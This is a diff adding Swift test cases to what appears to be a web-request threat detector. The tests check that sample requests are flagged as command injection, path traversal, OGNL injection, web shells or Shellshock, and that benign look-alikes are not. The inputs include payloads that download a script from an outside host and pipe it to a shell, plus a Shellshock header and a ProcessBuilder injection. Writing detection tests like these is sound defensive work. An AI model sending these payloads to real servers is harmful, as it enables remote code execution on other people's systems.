@@ -27,6 +27,32 @@ private func request(
     #expect(findings(WebScan(artifact: artifact), leak).map(\.severity) == [.medium])
   }
 
+  @Test(
+    arguments: [
+      ("/ping", "host=127.0.0.1;curl%20http://203.0.113.5/x.sh|sh", "web.command-injection"),
+      ("/ping", "host=`wget+-O-+http://203.0.113.5/x`", "web.command-injection"),
+      ("/ping", "host=$(curl${IFS}http://203.0.113.5/x)", "web.command-injection"),
+      ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "", "web.path-traversal"),
+      (
+        "/index.action", "redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{%22id%22}))",
+        "web.injection"
+      ),
+      ("/uploads/favicon.ico.jsp", "", "web.web-shell"),
+      ("/search", "q=curl+http+header", nil), ("/search", "q=how+to+use+curl;+wget", nil),
+      ("/search", "q=java.lang.ProcessBuilder", nil), ("/img/a.ico", "", nil), ("/bin/sh", "", nil),
+      ("/docs/v1.txt/page.jsp", "", nil),
+    ] as [(String, String, String?)])
+  func commandsPathsAndNames(_ path: String, _ query: String, _ rule: String?) {
+    let found = findings(WebRequests(artifact: artifact), [request(path, query, status: 200)])
+    #expect(found.map(\.rule) == (rule.map { [$0] } ?? []))
+  }
+
+  @Test func aFunctionWhereABrowserNamesItself() {
+    let agents = ["() { :; }; /bin/bash -c id", "Mozilla/5.0 () { foo"]
+    let found = agents.map { findings(WebRequests(artifact: artifact), [request("/a", status: 200, agent: $0)]).count }
+    #expect(found == [1, 0])
+  }
+
   @Test func aToolNamesItself() {
     #expect(findings(WebScan(artifact: artifact), [request("/", status: 200, agent: "sqlmap/1.7")]).count == 1)
   }
